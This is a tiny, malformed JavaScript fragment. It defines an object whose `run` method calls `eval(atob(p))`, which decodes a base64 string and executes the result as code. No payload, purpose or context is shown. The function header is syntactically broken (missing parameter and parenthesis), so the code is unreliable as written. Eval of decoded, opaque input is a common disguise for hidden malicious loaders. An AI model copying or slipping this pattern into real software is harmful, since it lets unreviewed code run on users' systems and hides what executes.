const x = {
  run: function ( { eval(atob(p)) }
